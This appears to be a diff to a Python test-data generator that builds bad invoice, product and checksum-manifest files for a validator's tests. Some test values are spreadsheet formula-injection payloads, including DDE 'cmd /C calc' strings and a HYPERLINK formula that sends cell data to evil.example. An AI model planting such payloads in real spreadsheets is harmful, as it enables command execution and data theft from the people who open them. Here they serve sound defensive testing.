@@ -1,7 +1,10 @@
 """Generator of the bad-input corpus and of valid partner files, for the checks tests and the e2e tests.
 
-All bad inputs are *invoice* files (suite ``BAD_INPUT_SUITE``); ``expected_reason_code`` is what
-``validate_file(path, "invoice").reason_code`` must be (None: the file must pass).
+All bad inputs of :func:`make_bad_inputs` are *invoice* files (suite ``BAD_INPUT_SUITE``);
+``expected_reason_code`` is what ``validate_file(path, "invoice").reason_code`` must be (None: the
+file must pass). Two smaller corpora cover what an invoice cannot carry: product files
+(:func:`make_product_bad_inputs`, suite ``product_file``: codes stored as numbers) and invoices with a
+checksum manifest next to them (:func:`make_manifest_bad_inputs`: decided by the intake, not the checks).
 
     from tests.data.bad_inputs import make_bad_inputs, make_valid_file, ODD_NAMES, TEMP_NAMES
     corpus = make_bad_inputs(tmp_path)          # {"truncated_last_row": (Path, "truncated"), ...}
@@ -382,6 +385,14 @@ def make_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]
     put("formula_minus", with_cell(3, "notes", "-2+3+cmd|' /C calc'!A0"), "formula_cells")
     put("formula_at", with_cell(4, "notes", "@SUM(1+9)*cmd|' /C calc'!A0"), "formula_cells")
     put("formula_tab", with_cell(5, "notes", "\t=1+1"), "formula_cells")
+    # A header cell runs like any other (invoice allows extra columns, so only the formula refuses it).
+    put("formula_in_header", csv_text(header + ['=HYPERLINK("http://evil.example/?x="&A1,"Details")'],
+                                      [r + ["1"] for r in rows]), "formula_cells")
+    # NUL: no database column can hold it; refused with its row and column (PostgreSQL would refuse the load).
+    put("nul_in_cell", with_cell(3, "notes", "Teil\x00lieferung"), "nul_byte")
+    put("nul_in_header", csv_text(header[:-1] + ["no\x00tes"], rows), "nul_byte")
+    # Other control characters are data: they pass, and are escaped wherever they are shown or sent.
+    put("control_chars_in_cell", with_cell(5, "notes", "Klingel\x07 ESC\x1b[31m rot NEL\x85 RLO\u202e Ende"), None)
     put("negative_amount", with_cell(6, "amount", "-5.00"), "expectations_failed")
     dup = [list(r) for r in rows]
     dup[9][0] = dup[2][0]
@@ -398,6 +409,8 @@ def make_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]
     corpus["xlsx_valid"] = (xlsx("xlsx_valid"), None)
     _write_xlsx(xlsx("xlsx_formula"), header, rows, {(3, header.index("notes")): "=1+1"})
     corpus["xlsx_formula"] = (xlsx("xlsx_formula"), "formula_cells")
+    _write_xlsx(xlsx("xlsx_formula_in_header"), header + ["=1+1"], [r + ["1"] for r in rows])
+    corpus["xlsx_formula_in_header"] = (xlsx("xlsx_formula_in_header"), "formula_cells")
     _write_xlsx(xlsx("xlsx_header_only"), header, [])
     corpus["xlsx_header_only"] = (xlsx("xlsx_header_only"), "header_only")
     xlsx("xlsx_corrupt").write_bytes(b"PK\x03\x04 this is not really a zip archive")
@@ -412,4 +425,76 @@ def make_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]
         path = odd_dir / odd
         path.write_text(good, encoding="utf-8")
         corpus[f"odd_name_{i}"] = (path, None)
+    return corpus
+
+
+#: Suite of :func:`make_product_bad_inputs`.
+PRODUCT_SUITE = "product_file"
+
+
+def make_product_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
+    """Product files (suite ``product_file``) whose codes a spreadsheet turned into numbers, and valid
+    ones: ``{name: (path, expected_reason_code)}`` like :func:`make_bad_inputs`. File names start with
+    ``PRODUCTS_`` (a registry can tell them from invoices by that)."""
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    header, rows = valid_rows("product_file", 8, seed=5)
+    gtin, hs_code = header.index("gtin"), header.index("hs_code")
+    corpus: dict[str, tuple[Path, str | None]] = {}
+
+    def changed(row: int, column: int, value) -> list[list]:
+        out = [list(r) for r in rows]
+        out[row][column] = value
+        return out
+
+    def put_csv(name: str, data: list[list], expected: str | None) -> None:
+        path = directory / f"PRODUCTS_{name}.csv"
+        path.write_text(csv_text(header, data), encoding="utf-8")
+        corpus[name] = (path, expected)
+
+    def put_xlsx(name: str, data: list[list], expected: str | None) -> None:
+        path = directory / f"PRODUCTS_{name}.xlsx"
+        _write_xlsx(path, header, data)
+        corpus[name] = (path, expected)
+
+    put_csv("product_valid", rows, None)
+    # Excel shows a 13-digit number as 4.00638E+12 and a CSV saved from it keeps just that.
+    put_csv("gtin_scientific_notation", changed(2, gtin, "4.00638E+12"), "code_as_number")
+    put_xlsx("xlsx_product_valid", rows, None)  # GTINs as text cells
+    # A float that lost digits: openpyxl (like Excel) stores 4006380000000, which looks like a GTIN-13.
+    put_xlsx("xlsx_gtin_number_cell", changed(3, gtin, 4.00638e12), "code_as_number")
+    put_xlsx("xlsx_hs_code_number_cell", changed(1, hs_code, 901210000), "code_as_number")  # leading 0 gone
+    # The value as some writers store it: <v>4.00638E+12</v> (a float cell).
+    assert gtin == 1  # column B
+    as_float = xlsx_rows_xml(header, changed(4, gtin, "")).replace(  # data row 4 is sheet row 6
+        b'<c r="C6"', b'<c r="B6"><v>4.00638E+12</v></c><c r="C6"', 1)
+    path = write_xlsx_package(directory / "PRODUCTS_xlsx_gtin_float_exponent.xlsx", xlsx_worksheet(as_float))
+    corpus["xlsx_gtin_float_exponent"] = (path, "code_as_number")
+    return corpus
+
+
+def make_manifest_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
+    """Valid invoices, each with a checksum manifest ``<name>.sha256`` next to it (``path`` names the
+    invoice): ``{name: (path, expected_reason_code)}``; ``manifest_mismatch`` when the intake must refuse
+    the manifest. A manifest names each file once: a second line for the same name, contradicting or
+    not, makes it vouch for nothing."""
+    import hashlib
+
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    corpus: dict[str, tuple[Path, str | None]] = {}
+
+    def put(name: str, lines: list[str], expected: str | None, seed: int) -> None:
+        header, rows = valid_rows("invoice", 6, seed=seed)
+        path = directory / f"MANIFESTED-{name}.csv"
+        path.write_text(csv_text(header, rows), encoding="utf-8")
+        digest = hashlib.sha256(path.read_bytes()).hexdigest()
+        text = "".join(line.format(digest=digest, other="0" * 64, name=path.name) + "\n" for line in lines)
+        path.with_name(path.name + ".sha256").write_text(text, encoding="utf-8")
+        corpus[name] = (path, expected)
+
+    put("manifest_valid", ["{digest}  {name}"], None, seed=61)
+    put("manifest_names_others_too", ["{other}  OTHER.csv", "{digest} *{name}"], None, seed=62)
+    put("manifest_contradicting_line", ["{digest}  {name}", "{other}  {name}"], "manifest_mismatch", seed=63)
+    put("manifest_repeated_line", ["{digest}  {name}", "{digest}  {name}"], "manifest_mismatch", seed=64)
     return corpus
